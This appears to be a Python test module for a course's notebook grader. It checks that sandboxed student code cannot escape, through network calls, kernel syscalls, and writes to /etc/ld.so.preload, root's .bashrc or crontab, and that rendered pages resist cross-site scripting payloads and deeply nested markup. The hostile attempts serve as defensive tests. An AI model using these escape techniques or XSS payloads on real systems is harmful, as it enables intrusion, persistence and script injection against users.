"""Ways out: of the sandbox to the machine and the net, and out of a page into the browser of who reads it."""

from __future__ import annotations

import json

from .corpus import FIRST, LATE, Case, cell, code

PACKAGE = "__import__('gvclab').__path__[0]"
SITE = "__import__('numpy').__path__[0].rsplit('/', 1)[0]"


def _try(name: str, does: str, attempt: str) -> Case:
    """Whoever gets through says so; that word must not come out."""
    lines = "\n    ".join(attempt.strip().splitlines())
    source = f"try:\n    {lines}\nexcept BaseException as error:\n    print(type(error).__name__)\nelse:\n    print('ESC' + 'APED')"
    return Case("escape", name, does, own={FIRST: source})


def _libc(name: str, does: str, call: str) -> Case:
    return _try(name, does, f"import ctypes\nassert ctypes.CDLL(None, use_errno=True).{call} >= 0")


def _write(name: str, does: str, path: str) -> Case:
    return _try(name, does, f"open({path}, 'a').write('gvclab-hostile')")


CASES = [
    _try("http", "Asks a web server.", "import urllib.request\nurllib.request.urlopen('http://1.1.1.1', timeout=1)"),
    _try("dns", "Asks for an address.", "import socket\nsocket.getaddrinfo('example.org', 80)"),
    _try(
        "udp",
        "Sends a packet.",
        "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))",
    ),
    _try(
        "loopback",
        "Knocks at the machine's own doors.",
        """
import socket
assert any(socket.socket().connect_ex(("127.0.0.1", n)) == 0 for n in (22, 80, 8888, 8786, 631))""",
    ),
    _try("raw socket", "Opens a raw socket.", "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"),
    _try("netlink", "Changes the network.", "import socket\nsocket.if_nameindex()[1]"),
    _libc("ptrace", "Traces process 1.", "ptrace(16, 1, 0, 0)"),
    _libc("unshare", "Makes itself root in a new namespace.", "unshare(0x10000000)"),
    _libc("clone", "Makes a new namespace by clone.", "syscall(56, 0x10000011, 0, 0, 0, 0)"),
    _libc("mount", "Mounts a file system.", "mount(b'proc', b'/tmp', b'proc', 0, None)"),
    _libc("umount", "Takes the cover off /proc.", "umount2(b'/proc', 2)"),
    _libc("chroot", "Changes its root.", "chroot(b'/tmp')"),
    _libc("setuid", "Becomes root.", "setuid(0)"),
    _libc("setns", "Enters another namespace.", "setns(3, 0)"),
    _libc("io_uring", "Opens a ring.", "syscall(425, 8, 0)"),
    _libc("bpf", "Loads a program into the kernel.", "syscall(321, 0, 0, 0)"),
    _libc("userfaultfd", "Handles page faults.", "syscall(323, 0)"),
    _libc("keyring", "Reads the kernel's keys.", "syscall(250, 0, -3, 0)"),
    _libc("handle", "Opens files by handle.", "syscall(304, 3, 0, 0)"),
    _libc("semaphores", "Takes memory of the kernel's that no limit counts.", "semget(0, 32000, 0o600)"),
    _libc("watches files", "Watches who opens files that every room has.", "inotify_init1(0)"),
    _libc("watches file systems", "Watches who opens files, by another door.", "fanotify_init(0x200, 0)"),
    _try(
        "locks a file", "Locks a file of the machine's.", f"import fcntl\nfcntl.flock(open({PACKAGE} + '/lab.py'), 6)"
    ),
    _try(
        "leases a file",
        "Makes others wait who write to a file of its own user's.",
        f"import fcntl\nfcntl.fcntl(open({PACKAGE} + '/lab.py'), 1024, 0)",
    ),
    _libc("memory of others", "Reads another process's memory.", "syscall(310, 1, 0, 0, 0, 0, 0)"),
    _libc("32 bit calls", "Calls the kernel by another door.", "syscall(0x40000000 + 101, 0, 0, 0, 0)"),
    _try(
        "device",
        "Makes a device.",
        "import os\nos.mknod('/tmp/disk', 0o60600, os.makedev(8, 0))\nopen('/tmp/disk', 'rb').read(9)",
    ),
    _try(
        "set-uid file",
        "Makes a program that runs as another.",
        "import os\nopen('x', 'w').close(); os.chown('x', 0, 0); os.chmod('x', 0o6777)",
    ),
    _try(
        "other processes",
        "Finds processes that are not its own.",
        "import os\nassert [n for n in os.listdir('/proc') if n.isdigit()]",
    ),
    _try("kills its parent", "Kills whom it can see above.", "import os\nassert os.getppid() > 0"),
    _try(
        "kernel memory",
        "Opens the machine's memory.",
        "[open(p, 'rb') for p in ('/dev/mem', '/dev/kmsg', '/proc/kcore', '/dev/sda')]",
    ),
    _try("sys", "Writes to the kernel's settings.", "open('/proc/sys/kernel/core_pattern', 'w').write('|/tmp/x')"),
    _write("package", "Changes the course's library.", f"{PACKAGE} + '/exercises/score.py'"),
    _write("site-packages", "Leaves a .pth file for the next Python.", f"{SITE} + '/gvclab-hostile.pth'"),
    _write("sitecustomize", "Leaves a sitecustomize.", f"{SITE} + '/sitecustomize.py'"),
    _write("bytecode", "Leaves compiled code.", f"{PACKAGE} + '/__pycache__/gvclab-hostile.pyc'"),
    _write("preload", "Has itself loaded by every program.", "'/etc/ld.so.preload'"),
    _write("home", "Writes to the instructor's home.", "'/root/.bashrc'"),
    _write("cron", "Leaves a job.", "'/var/spool/cron/crontabs/root'"),
    _write("shared memory", "Leaves something in shared memory.", "'/dev/shm/gvclab-hostile'"),
    _write("variable tmp", "Leaves something in /var/tmp.", "'/var/tmp/gvclab-hostile'"),
    _try("remount", "Makes what is read-only writable.", "import os\nos.chmod('/usr', 0o777)"),
]

# ------------------------------------------------------------------------------------------ into a browser

_IMG = "<img src=x onerror=alert(1)>"
PAGES = {
    "script": "<script>alert(1)</script>",
    "handler": _IMG,
    "svg": "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "iframe": "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data='javascript:alert(1)'></object>",
    "javascript link": "[x](javascript:alert(1)) <a href='jav&#x09;ascript:alert(1)'>y</a> [z]: javascript&colon;alert(1)\n\n[z]",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "style": "<style>@import url('//evil.example')</style><b style='background:url(javascript:alert(1))'>x</b>",
    "split tag": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "fence": "```\n</code></pre><script>alert(1)</script>\n```",
    "comment": "<!--><script>alert(1)</script>-->",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "tex href": r"$\href{javascript:alert(1)}{x}$ $\style{background:url(//evil)}{x}$",
    "tex text": r"$\text{<script>alert(1)</script>}$ $\text{<img/src=x/onerror=alert(1)>}$",
    "tex text split": r"$\text{<{}img/src=x/onerror=alert(1)>}$ $\text{&lt;img/src=x/onerror=alert(1)&gt;}$ $\mathrm{<}\text{img/src=x/onerror=alert(1)>}$",
    "tex token": r"$\def\x#1{\mmlToken{mi}[href='java#1:alert(1)']{x}}\x{script}$",
    "tex by entities": r"&#36;&#92;def&#92;x#1{&#92;href{java#1:alert(1)}{x}}&#92;x{script}&#36;",
    "tex environment": "\\begin{align}\\text{</math><script>alert(1)</script>}\\end{align}",
    "tex text in CDATA": r"$\text{<![CDATA[><img src=x onerror=alert(1)>]]>}$ $\text{<meta/>}$",
    "picture": "![x](attachment:x.svg) ![y](https://evil.example/y.png) ![z][z]\n\n[z]: //evil.example/z.png",
    "form": "<form action=//evil.example><button formaction=javascript:alert(1)>x</button></form>",
    "base": "<base href=//evil.example><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
}


def _essay(name: str, source: str) -> Case:
    def edit(book):
        cell(book, "2-3-10")["source"] = source
        book["cells"] += [code(source, "markdown"), code(source, "raw")]
        return book

    return Case(
        "escape", f"page: {name}", "Has a script in its essay, in Markdown and raw cells of its own.", edit=edit
    )


def _attachments(book):
    html = {
        "text/html": _IMG,
        "image/svg+xml": "<svg onload=alert(1)>",
        "application/javascript": "alert(1)",
        "text/markdown": _IMG,
        "text/latex": PAGES["tex href"],
        "application/vnd.plotly.v1+json": {"data": [{"x": _IMG}]},
    }
    for one in book["cells"]:
        if one["cell_type"] == "markdown":
            one["attachments"] = {"x.svg": {"image/svg+xml": "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"}, _IMG: {"text/html": _IMG}}
        else:
            one["outputs"] = [
                {"output_type": "display_data", "data": html, "metadata": {}},
                {"output_type": "stream", "name": "stdout", "text": _IMG},
                {"output_type": "error", "ename": _IMG, "evalue": _IMG, "traceback": [_IMG]},
            ]
        one["metadata"] |= {"tags": [_IMG], "name": _IMG, "jupyter": {"source_hidden": True}}
    book["metadata"] |= {
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": _IMG}}},
        "title": _IMG,
        "kernelspec": {"name": _IMG, "display_name": _IMG, "language": _IMG},
        "language_info": {"name": _IMG},
    }
    return book


_TEX = r"$\href{javascript:alert(1)}{x}$"

CASES += [_essay(name, source) for name, source in PAGES.items()]
CASES += [
    Case("escape", "page: outputs", "Brings outputs, attachments and metadata with scripts.", edit=_attachments),
    Case(
        "escape",
        "page: printed",
        "Prints scripts, raises and displays them.",
        own={
            LATE: f"""
from IPython.display import HTML, Javascript, SVG, display
display(HTML({_IMG!r}), Javascript("alert(1)"))
print({_IMG!r}, "\\x1b[31m\\x1b]8;;javascript:alert(1)\\x07x", "</pre><script>alert(1)</script>")
raise type("<script>alert(1)</script>", (Exception,), {{}})({_IMG!r})"""
        },
    ),
    Case(
        "escape",
        "page: answers",
        "Answers with scripts, which hints may quote.",
        answers={
            "2.3-1": f"reliability = ({_IMG!r}, type({_IMG!r}, (), {{}})())",
            "2.3-2": f"spreading = {PAGES['script']!r}",
            "2.3-4": f"def cvar(*a): raise ValueError({_IMG!r})",
            "2.3-9": f"links = [({_IMG!r}, '`<b>`*x*'), '<script> -> <img>']",
            "2.3-5": f"finding = {{'q_home': {_IMG!r}, 'phi': '*a*', 'w': '`b`', 'home_share': 1, 'cvar': 1, 'refuted': {_IMG!r}}}",
        },
        earns={"2.3-1": 0.0, "2.3-2": 0.0, "2.3-4": 0.0, "2.3-9": 0.0, "2.3-5": 0.0},
    ),
    Case(
        "escape",
        "page: formulas in answers",
        "Answers with formulas whose links run, which hints and errors may quote.",
        answers={
            "2.3-1": f"raise type({_TEX!r}, (Exception,), {{}})({_TEX!r} + ' ' + r'\\begin{{align}}' + {_TEX!r})",
            "2.3-2": f"spreading = {_TEX!r}",
            "2.3-9": f"links = [({_TEX!r}, {_TEX!r})]",
        },
        earns={"2.3-1": 0.0, "2.3-2": 0.0, "2.3-9": 0.0},
    ),
    Case(
        "escape",
        "page: code",
        "Has scripts in code, comments and magics.",
        own={FIRST: f"%%html\n{_IMG}", LATE: f"# </pre></div><script>alert(1)</script>\nx = {_IMG!r}  # {_IMG}"},
    ),
    Case(
        "escape",
        "page: file name",
        "Has a script in the name of the file.",
        note="note.renamed",
        edit=lambda book: None,
        files=lambda folder: (folder / "<img src=x onerror=alert(1)>.ipynb").write_text(json.dumps(_solved())) and None,
    ),
    Case(
        "escape",
        "page: nested",
        "Has an essay of a hundred thousand characters of nested tags.",
        edit=lambda book: _many(book, "<div>" * 20_000),
    ),
    Case(
        "escape",
        "page: formatting",
        "Has tags that multiply when they are put in order.",
        edit=lambda book: _many(book, "".join(f"<b id={n}>" for n in range(4000)) + "<p>" * 15_000),
    ),
    Case(
        "escape",
        "page: quotes",
        "Has an essay of nested quotations, lists, emphasis and brackets.",
        edit=lambda book: _many(
            book,
            ">" * 5000
            + " x\n\n"
            + "".join("  " * n + "- x\n" for n in range(150))
            + "*a **b " * 3000
            + "\n\n"
            + "[" * 5000,
        ),
    ),
    Case(
        "escape",
        "page: formulas",
        "Has formulas that are hard to set.",
        edit=lambda book: _many(
            book, "$" + "{" * 3000 + "$ $" + r"\frac{1}" * 3000 + "$ $" + r"\begin{matrix}" * 300 + "$ " + "$x$ " * 2000
        ),
    ),
]


def _solved():
    from .corpus import NOTEBOOK, solved

    return solved(NOTEBOOK)


def _many(book, source):
    cell(book, "2-3-10")["source"] = source
    book["cells"] += [code(source, "markdown") for _ in range(4)]
    return book
